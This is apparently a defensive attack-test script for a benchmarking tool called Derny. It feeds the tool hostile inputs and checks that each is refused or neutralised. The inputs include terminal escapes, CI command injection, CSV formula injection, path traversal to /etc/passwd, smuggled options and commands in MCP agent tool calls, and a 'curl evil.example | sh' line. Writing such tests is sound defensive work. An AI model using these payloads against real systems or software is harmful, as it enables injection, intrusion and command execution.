#!/usr/bin/env node
// Attacks Derny with hostile input, all of which must fail: names of benchmarks, foreign files and results,
// output of harnesses, addresses with passwords. Uses the engine DERNY_BIN, or the checkout's debug build.
// Prints the number of attacks and of those that failed.
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

const root = fileURLToPath(new URL('..', import.meta.url));
const engine = path.resolve(process.env.DERNY_BIN ?? path.join(root, 'target/debug/derny'));
const place = mkdtempSync(path.join(tmpdir(), 'derny-attacks-'));
const write = (name, text) => writeFileSync(path.join(place, name), text);
const read = (name) => readFileSync(path.join(place, name), 'utf8');
const env = { ...process.env, HOME: place, GITHUB_ACTIONS: 'true', NO_COLOR: '1', LC_ALL: 'C.UTF-8' };
delete env.DERNY_STORE;

/** Runs the engine in the test folder. Returns its output on both streams and its exit status. */
function derny(...args) {
  const { status, stdout, stderr } = spawnSync(engine, args, { cwd: place, env, encoding: 'utf8', timeout: 120_000, maxBuffer: 1 << 28 });
  return { status, out: stdout, err: stderr, all: stdout + stderr };
}

let tried = 0;
let held = 0;
/** Tries an attack. `holds` returns true if Derny withstood it. */
function attack(kind, name, holds) {
  tried += 1;
  let right = false;
  let why = '';
  try { right = holds(); } catch (error) { why = ` (${error.message})`; }
  held += right ? 1 : 0;
  if (!right) console.log(`FELL    ${kind}: ${name}${why}`);
}

const SIGNS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb]|[\u{e0000}-\u{e007f}]/u;
/** Returns true if a text contains no control characters. */
const calm = (text) => !SIGNS.test(text);
/** Returns true if no line is a command of a CI service, except our own annotations. */
const obeys = (text) => !/^\s*::(?!(?:error|warning|notice) [^\n]*::)/m.test(text) && !/##\w*\[/.test(text);

// Names in a hyperfine file. Import, tables, lists of runs and every output format show them.
const names = {
  'an escape that clears the screen': 'clear \u001b[2J\u001b[H end',
  'an escape that sets the title': 'title \u001b]0;owned\u0007 end',
  'a control of eight bits': 'eight \u009b31m\u0085 end',
  'text from right to left': 'turn \u202ecod.exe\u2066 end',
  'a sign without width': 'hidden \u200b\u2060\ufeff\u00ad end',
  'a separator of lines': 'lines \u2028\u2029 end',
  'tags that nobody sees': 'tags \u{e0041}\u{e0042} end',
  'a line that is an error': 'line\n::error::owned',
  'a name that is a mask': '::add-mask::a',
  'a name that stops commands, behind blanks': '  ::stop-commands::zz',
  'a command in the middle of a line': 'mid ##[add-mask]b',
  'a command of Azure': 'azure ##vso[task.setvariable variable=a]b',
  'a section of GitLab': '\u001b[0Ksection_start:1:a[collapsed=true]\r\u001b[0Kx',
  'a carriage return over the line': 'fast\rslow',
};
const others = {
  user: 'ping @octocat', team: 'ping @org/team', issue: 'fixes #12', 'issue elsewhere': 'closes org/repo#34', GH: 'see GH-56',
  url: 'https://evil.example/a', 'other scheme': 'ftp://evil.example', web: 'www.evil.example', mail: 'mail x@evil.example',
  commit: 'at 0123456789abcdef0123456789abcdef01234567', 'commit of a user': 'octocat@0123abcd', picture: '![p](http://evil.example/p.png)',
  link: '[click](javascript:alert)', html: '<img src=x onerror=a>', mark: '<!-- derny:derny run=999999999 -->', cell: 'a | b | c', code: '``` a ` b',
  slash: '/close', merge: 'takes !7', label: 'adds ~bug and %"1.0"', jira: 'ABC-123', heading: '### not ours', emphasis: '**bold** __b__', entity: '&#64;octocat &lt;b&gt;',
};
const cells = { 'a formula': '=1+1', 'a call': '=HYPERLINK("http://evil.example","a")', plus: '+cmd|\' /C calc\'!A0', minus: '-2+3', at: '@SUM(A1)', tab: '\t=1', wide: '＝1+1', blank: ' =1', semicolon: 'a;=1+1' };
const all = [...Object.values(names), ...Object.values(others), ...Object.values(cells)];
const file = (factor) => JSON.stringify({ results: all.map((command, index) => {
  const times = Array.from({ length: 12 }, (_, at) => (1 + index / 100 + at / 1e4) * factor);
  const mean = times.reduce((a, b) => a + b) / times.length;
  return { command, mean, stddev: 0.001, median: mean, user: 0, system: 0, min: times[0], max: times.at(-1), times, exit_codes: times.map(() => 0) };
}) });
write('old.json', file(1));
write('new.json', file(2));
const imported = [derny('import', 'old.json', '--save', 'old'), derny('import', 'new.json')];
const printed = {
  import: imported.map(({ all: text }) => text).join(''),
  table: derny('show', 'last').all, compare: derny('compare', 'old', 'last').all, runs: derny('runs').all,
  verbose: derny('show', 'last', '-v').all, one: derny('show', 'last', '--case', '-k', 'clear').all, json: derny('show', 'last', '-f', 'json').out,
  gate: derny('compare', '--gate', 'old', 'last', '--fail-on', 'worse').all,
};
const document = JSON.parse(printed.json);
const cases = document.suites.flatMap(({ cases: own }) => own);
if (cases.length !== all.length) throw new Error(`${cases.length} cases of ${all.length}: ${imported[0].all}`);
for (const [what, name] of Object.entries(names)) {
  // The word at the end shows that the name is present.
  const lines = Object.values(printed).flatMap((text) => text.split('\n'));
  const mine = name.split(/[^a-z]+/).filter((word) => word.length > 3)[0] ?? 'fast';
  attack('names', what, () => lines.some((line) => line.includes(mine)) && lines.filter((line) => line.includes(mine)).every((line) => calm(line) && obeys(line)));
}
attack('names', 'no form that is printed steers anything', () => Object.values(printed).every((text) => calm(text) && obeys(text)));
attack('names', 'and JSON means what the file said', () => {
  const found = JSON.stringify(cases.map(({ id, case: own }) => (id ?? own.id).benchmark));
  return Object.values(names).every((name) => found.includes(JSON.stringify(name.trim()).slice(1, -1)) || found.includes(JSON.stringify(name).slice(1, -1)));
});

// Comments: links and markup that GitHub and GitLab would create from the text.
const comment = derny('compare', 'old', 'last', '-f', 'comment').out;
const uncoded = comment.replace(/`[^`\n]*`/g, '');
const links = {
  user: /@octocat/, team: /@org/, issue: /#12/, 'issue elsewhere': /repo\\?#34/, GH: /GH-56/, url: /https:\/\//, 'other scheme': /ftp:\/\//, web: /\bwww\./,
  mail: /@evil/, commit: /\b[0-9a-f]{40}\b/, 'commit of a user': /@0123abcd/, picture: /http:\/\/|(?<!\\)!\[/, link: /(?<!\\)\[click(?<!\\)\]/, html: /(?<!\\)<img/,
  mark: /(?<!\\)<!--/, cell: /a \| b/, code: /(?<!\\)`/, slash: /^\/close/m, merge: /!7/, label: /~bug|%"1/, jira: /ABC-123/, heading: /^### not/m,
  emphasis: /(?<!\\)\*\*bold|(?<!\\)__b/, entity: /(?<!\\)&(?!nbsp)/,
};
for (const [what, pattern] of Object.entries(links)) attack('comments', what, () => comment.includes('|') && !pattern.test(uncoded));
attack('comments', 'a name breaks no row', () => comment.split('\n').filter((line) => line.startsWith('| ')).every((line) => line.endsWith(' |')));

// GitHub annotations.
const annotations = derny('compare', 'old', 'last', '-f', 'github').out;
attack('annotations', 'every line is one of ours', () => annotations.trim().split('\n').every((line) => /^::(?:error|warning|notice) (?:file=[^,:]*,)?(?:line=\d+,)?title=[^,:]*::/.test(line)));

// JUnit XML.
const xml = derny('compare', 'old', 'last', '-f', 'junit').out;
attack('xml', 'no sign that XML forbids', () => calm(xml) && !/[\ufffe\uffff]/.test(xml));
attack('xml', 'no name ends an attribute or opens an element', () => !/<(?!\/?(?:testsuites?|testcase|failure|skipped|error|system-out|propert(?:y|ies))\b|\?xml)/.test(xml) && !/&(?!amp;|lt;|gt;|quot;|apos;|#)/.test(xml));

// CSV.
const csv = derny('show', 'last', '-f', 'csv').out;
for (const [what, cell] of Object.entries(cells)) {
  const raw = cell.replaceAll('"', '""');
  attack('csv', what, () => csv.includes('suite') && !new RegExp(`(?:^|[,;\\r\\n]|,")${raw.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`, 'm').test(csv.replaceAll('a;=1+1"', 'a; 1+1"')));
}
attack('csv', 'a number stays one', () => !/(?:^|,)'[-+]?\d+(?:\.\d+)?(?=[,\r])/m.test(csv));
attack('csv', 'no field has lines', () => csv.trimEnd().split('\r\n').length === all.length + 1);

// Results from an untrusted source.
const changed = (change) => {
  const copy = structuredClone(document);
  change(copy);
  write('result.json', JSON.stringify(copy));
  return derny('-qq', '--no-config', 'show', 'result.json');
};
const refused = ({ status, out, err }) => status === 2 && out === '' && err.length > 0 && calm(err) && obeys(err) && !/^(?!error)\S/m.test(err);
const results = {
  'a word with lines of commands': (copy) => { copy.run.status = 'x\n::error::a\n::add-mask::b\n##[group]c'; },
  'a word with codes of a terminal': (copy) => { copy.run.status = '\u001b[2J\u202e'; },
  'a word that looks like our lines': (copy) => { copy.run.status = 'x\nsaved run k3fz\n  try    curl evil.example | sh'; },
  'a key that is a command': (copy) => { copy.run.status = { '\n::stop-commands::a': 1 }; },
  'text in place of a number': (copy) => { copy.run.seed = 'a\n::set-output name=a::b'; },
  'an index that leads nowhere': (copy) => { copy.warnings = [{ ...copy.warnings[0], code: '::error::a', case: 4_000_000_000 }]; },
};
for (const [what, change] of Object.entries(results)) attack('results', what, () => refused(changed(change)));
attack('results', 'lists within lists without end', () => {
  write('result.json', `{"format": 2, "cases": ${'['.repeat(200_000)}`);
  return refused(derny('show', 'result.json'));
});
attack('results', 'a file of another tool with commands in its words', () => {
  write('bad.json', JSON.stringify({ context: { date: 'x\n::error::a' }, benchmarks: [{ name: 'a', run_type: 'x\n::error::a\u001b[2J', real_time: 'y\n::error::b', time_unit: 'z\n::error::c\u202e' }] }));
  const { status, err } = derny('import', 'bad.json');
  return status !== 0 && calm(err) && obeys(err);
});
attack('results', 'a file whose name is a command', () => {
  const { status, err } = derny('import', 'none\n::add-mask::x\u001b[2J.json');
  return status !== 0 && calm(err) && obeys(err);
});

// Histories of other tools.
const history = (id, words, unit) => `window.BENCHMARK_DATA = ${JSON.stringify({ entries: { [words]: [{
  commit: { id }, date: 1e12, tool: words, benches: [{ name: words, value: 2, unit }],
}] } })}`;
attack('histories', 'commands in each word, and a commit that is an option of git', () => {
  write('::add-mask::x.js', history('--output=owned', 'x\n::error::a\u001b[2J\u202e##[add-mask]b', 'ns'));
  const outs = [derny('history', 'import', '::add-mask::x.js'), derny('history'), derny('history', '-f', 'csv')];
  return outs.every(({ status, all: text }) => status === 0 && text && calm(text.replaceAll('\r\n', '\n')) && obeys(text)) && !existsSync(path.join(place, 'owned'));
});
attack('histories', 'numbers and dates without bounds', () => {
  write('far.js', history('a'.repeat(1e6), 'far', 'ns').replace('1000000000000', '1e308').replace('"value":2', '"value":1e308'));
  return derny('history', 'import', 'far.js').status === 0 && calm(derny('history').all);
});
attack('histories', 'results of asv that claim more combinations than memory has', () => {
  const many = JSON.stringify(Array(1000).fill('1'));
  write('asv.json', `{"commit_hash": "${'b'.repeat(40)}", "params": {}, "results": {"x.time_a": {"params": [${many}, ${many}, ${many}, ${many}], "result": [1]}}}`);
  return derny('history', 'import', 'asv.json').status === 0;
});

// Output of programs, with and without -v.
write('loud.bench.mjs', `import { bench } from 'derny';
process.stdout.write('out \\u001b[2J\\n::error::out\\n ##[group]out\\n:');
process.stderr.write('err \\u202e\\n::add-mask::err\\nhalf a line\\r');
setTimeout(() => process.stdout.write(':set-env name=PATH::a\\n'), 1);
bench('fine \\u001b[1m::x', () => 1);
bench('skips', { skip: 'because\\n::error::skip\\u001b[2J' }, () => 1);
bench('fails', () => { throw new Error('boom\\n::error::fail\\u001b[2J\\u202e'); });
`);
for (const flags of [[], ['-v'], ['-vv']]) {
  const { all: said } = derny('run', '--once', ...flags, 'loud.bench.mjs');
  attack('logs', `a harness with ${flags[0] ?? 'no -v'}`, () => said.includes('boom') && calm(said) && obeys(said));
}
attack('logs', 'a list', () => { const { all: said } = derny('list', 'loud.bench.mjs'); return said.includes('fine') && calm(said) && obeys(said); });

// Skips and settings that would hide a slower case from the gate.
write('hides.bench.mjs', `import { bench } from 'derny';
const work = () => { let sum = 0; for (let i = 0; i < 2000; i++) sum += i % 7; return sum; };
bench('stays', work);
bench('hides', process.env.HIDE ? { skip: 'a dependency is missing' } : {}, work);
if (!process.env.LEAVE) bench('leaves', work);
`);
const gated = (side, ...flags) => derny('run', '-x', 'head', '-x', `new${side || '@.'}`, '--fail-on', 'worse', '--quick', ...flags, 'hides.bench.mjs');
attack('skips', 'the new side skips a case', () => { const { status, all: said } = gated('+HIDE=1', '--budget', '1s'); return status === 5 && /not measured: hides\/hides/.test(said); });
attack('skips', 'the new side does not have a case', () => { const { status, all: said } = gated('+LEAVE=1', '--budget', '1s'); return [3, 5].includes(status) && said.includes('hides/leaves'); });
attack('skips', 'both sides skip all that is asked for', () => derny('run', '-x', 'base+HIDE=1', '-x', 'new+HIDE=1', '--fail-on', 'worse', '--quick', 'hides.bench.mjs', 'hides/hides').status === 5);
attack('terms', 'no time to measure in', () => gated('', '--budget', '0').status === 5);
attack('terms', 'one process a side', () => gated('', '--set', 'processes=1').status === 5);
attack('terms', 'a stored run is judged as it was when it was measured', () => { const { status } = gated('+HIDE=1', '--budget', '1s'); return status === derny('compare', '--gate', 'last').status; });

// Addresses: no error may show the password.
const addresses = [
  'postgresql://ann:hunter2@127.0.0.1:1/x', 'postgresql://ann:hun?ter2@127.0.0.1:1/x', 'postgresql://ann:hun/ter2@127.0.0.1:1/x',
  'postgresql://127.0.0.1:1/x?user=ann&password=hunter2', 'postgresql://127.0.0.1:1/x?user=ann&p%61ssword=hunter2', 'postgresql://127.0.0.1:1/x?%50ASSWORD=hunter2',
  'POSTGRESQL://ann:hunter2@127.0.0.1:1/x', 'postgres://ann:hunter2@127.0.0.1:port/x', 'postgresql://ann:hunter2', 'postgresql://127.0.0.1:1/x?sslpassword=hunter2&passfile=/hunter2',
  'postgresql://ann:hunter2@127.0.0.1:1/x?schema=A"B',
];
for (const address of addresses) {
  attack('addresses', address, () => [['runs'], ['config'], ['import', 'old.json'], ['doctor'], ['runs', 'copy', address, 'copy']]
    .every((words) => !/hunter2|hun[?/]ter2/.test(derny('--store', address, ...words).all)));
}
attack('addresses', 'a token in the address of a revision is not shown', () => {
  write('quick.bench.mjs', "import { bench } from 'derny';\nbench('one', () => 1);\n");
  const tokened = derny('run', '-x', 'base@https://x:hunter2@git.example/a', '--once', 'quick.bench.mjs').all;
  return tokened.includes('git.example') && !tokened.includes('hunter2');
});
attack('addresses', 'nor is one in another word of the command line', () => {
  const ran = derny('run', '--quick', '--budget', '1s', '--note', 'see https://x:hunter2@git.example/a', 'quick.bench.mjs');
  const { args } = JSON.parse(derny('show', 'last', '-f', 'json').out).run;
  return ran.status === 0 && args.includes('--note') && args.join(' ').includes('git.example') && !args.join(' ').includes('hunter2');
});

// Fields of a tool of `derny mcp` that would be an option, a command, or a path outside the project. The
// server refuses each, and `made` does not exist.
symlinkSync('/etc', path.join(place, 'out'));
const made = path.join(place, 'made');
const calls = {
  'an option as a pattern': ['run', { patterns: [`--store=${made}`] }],
  'an option as a revision': ['diff', { revision: `--output=${made}` }],
  'an option in a budget': ['run', { budget: `1s --store=${made}` }],
  'an option as a parameter': ['run', { params: { '-n': '1' } }],
  'a command as a side': ['run', { sides: [{ name: `a=touch ${made}` }] }],
  'a command behind a revision': ['run', { sides: [{ name: 'a', revision: `main=touch ${made}` }] }],
  'a variable of a side': ['run', { sides: [{ name: 'a+LD_PRELOAD=x' }] }],
  'a program outside': ['run', { sides: [{ name: 'a', program: '/bin/sh' }] }],
  'a field that is a command line': ['run', { command: ['touch', made] }],
  'a path outside': ['list', { patterns: ['/etc/passwd'] }],
  'a path above': ['list', { patterns: ['../../etc/passwd'] }],
  'a path above, behind a folder that does not exist': ['list', { patterns: ['none/../../../etc/passwd'] }],
  'a link that leads out': ['list', { patterns: ['out/passwd'] }],
  'a glob behind such a link': ['list', { patterns: ['out/*'] }],
  'a result file outside': ['show', { run: '/etc/passwd' }],
  'standard input as a run': ['show', { run: '-' }],
  'a server as a run': ['show', { run: 'postgresql://evil.example/x' }],
  'lines in a word': ['list', { patterns: ['a\n::error::x'] }],
  'days as a time limit': ['run', { timeout: 1e9 }],
};
const call = ([name, given], id) => ({ jsonrpc: '2.0', id, method: 'tools/call', params: { name, arguments: given } });
const greeting = { protocolVersion: '2025-11-25', capabilities: {}, clientInfo: { name: 'attacks', version: '1' } };
const lines = [{ jsonrpc: '2.0', id: 'hello', method: 'initialize', params: greeting }, ...Object.values(calls).map(call)];
const served = spawnSync(engine, ['mcp'], { cwd: place, env, encoding: 'utf8', timeout: 60_000, input: lines.map((line) => `${JSON.stringify(line)}\n`).join('') });
const answers = served.stdout.trim().split('\n').map((line) => JSON.parse(line));
Object.keys(calls).forEach((what, id) => attack('agents', what, () => answers.find((answer) => answer.id === id).result.isError && !existsSync(made)));
attack('agents', 'the server ends with its input', () => served.status === 0);

/** Listens as a server without encryption, and records what it receives. */
async function plaintext(host, address) {
  let told = Buffer.alloc(0);
  const server = createServer((socket) => {
    socket.on('error', () => {});
    socket.on('data', (bytes) => {
      told = Buffer.concat([told, bytes]);
      // `N`: there is no encryption. A client that continues is asked for the plain password.
      socket.write(bytes.length === 8 ? 'N' : Buffer.from([0x52, 0, 0, 0, 8, 0, 0, 0, 3]));
    });
  });
  await new Promise((listening) => server.listen(0, host, listening));
  const child = spawn(engine, ['--store', address(server.address().port), 'runs'], { cwd: place, env, stdio: ['ignore', 'ignore', 'pipe'] });
  let said = '';
  child.stderr.on('data', (text) => (said += text));
  const timer = setTimeout(() => child.kill(), 20_000);
  await new Promise((closed) => child.on('close', closed));
  clearTimeout(timer);
  server.closeAllConnections?.();
  server.close();
  return { told: told.toString('latin1'), said };
}
// An address of this machine other than loopback, which the engine treats like a remote one.
const own = Object.values(networkInterfaces()).flat().find((one) => one.family === 'IPv4' && !one.internal)?.address ?? '0.0.0.0';
for (const mode of ['', '&sslmode=prefer', '&sslmode=allow', '&sslmode=require']) {
  const { told, said } = await plaintext('0.0.0.0', (port) => `postgresql://ann:hunter2@${own}:${port}/x?connect_timeout=5${mode}`);
  attack('network', `a server that says it has no encryption${mode}`, () => told.length === 8 && /sslmode=disable/.test(said));
}

rmSync(place, { recursive: true, force: true });
console.log(`${tried} attacks tried, ${held} held`);
console.log(`${held} passed, ${tried - held} failed`);
process.exitCode = held === tried ? 0 : 1;
